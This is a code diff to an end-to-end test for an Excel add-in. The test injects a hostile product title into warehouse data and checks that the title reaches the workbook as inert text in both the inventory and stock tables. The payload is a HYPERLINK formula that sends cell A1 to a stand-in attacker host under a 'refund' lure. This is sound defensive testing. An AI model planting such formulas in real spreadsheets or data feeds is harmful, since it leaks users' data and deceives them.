@@ -11,10 +11,13 @@ import type { Page } from 'playwright-core';
 import { seedFromWarehouse, SANDBOX_CREDENTIALS, type StartedSandboxes } from '../../pipeline/channels/sandbox/start';
 import type { StartHook } from '../../pipeline/server/hooks';
 import { startDemo, type StartedDemo } from '../../pipeline/server/start';
+import { bumpDataVersion } from '../../pipeline/warehouse/duckdb';
 import type { CellInfo } from '../support/fakeExcel';
 import { connect, ensureBundle, openPane, requireChromium, screenshotPane, screenshotSheet, settle, workbook, ADDIN_DIR, type PaneSession } from './support/browser';
 
 jest.setTimeout(300_000);
+
+const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")';
 
 interface ApiDataset {
   columns: Array<{ name: string; type: string }>;
@@ -50,6 +53,13 @@ describe('the Excel add-in against crossdock serve on demo data and the channel 
     const sandboxHook: StartHook = {
       name: 'e2e channel sandboxes',
       run: async ({ warehouse }) => {
+        // Attacker-controlled text as a marketplace would deliver it: a product title that is a
+        // formula. Bumping the data version makes the analytics rebuild with it.
+        await warehouse.transaction(async (conn) => {
+          await conn.run('update sku set title = $1 where sku = (select min(sku) from sku)', [HOSTILE_TITLE]);
+          await conn.run('update listing set title = $1 where sku = (select min(sku) from sku)', [HOSTILE_TITLE]);
+          await bumpDataVersion(conn);
+        });
         sandboxes = await seedFromWarehouse(warehouse, { quiet: true, rateLimits: false });
         const { urls } = sandboxes;
         Object.assign(process.env, {
@@ -101,8 +111,11 @@ describe('the Excel add-in against crossdock serve on demo data and the channel 
       const want = fromApi.rows.map((row) => key(fromApi.columns.map((c, j) => expectedCell(row[j], c.type)))).sort();
       expect([name, got]).toEqual([name, want]);
     }
-    const titles = await workbook<CellInfo[]>(page, 'columnCells', 'Crossdock_inventory', 'Title');
-    expect(titles.every((c) => c.kind === 'text' || c.kind === 'empty')).toBe(true);
+    for (const table of ['Crossdock_inventory', 'Crossdock_stock']) {
+      const titles = await workbook<CellInfo[]>(page, 'columnCells', table, 'Title');
+      expect([table, titles.filter((c) => c.kind !== 'text' && c.kind !== 'empty')]).toEqual([table, []]);
+      expect([table, titles.some((c) => c.value === HOSTILE_TITLE && c.kind === 'text')]).toEqual([table, true]);
+    }
     const charts = await workbook<{ charts: Array<{ type: string }> }>(page, 'sheetInfo', 'Return reasons');
     expect(charts.charts.map((c) => c.type)).toEqual(['Pie']);
     await screenshotPane(page, 'real-pane-refreshed');
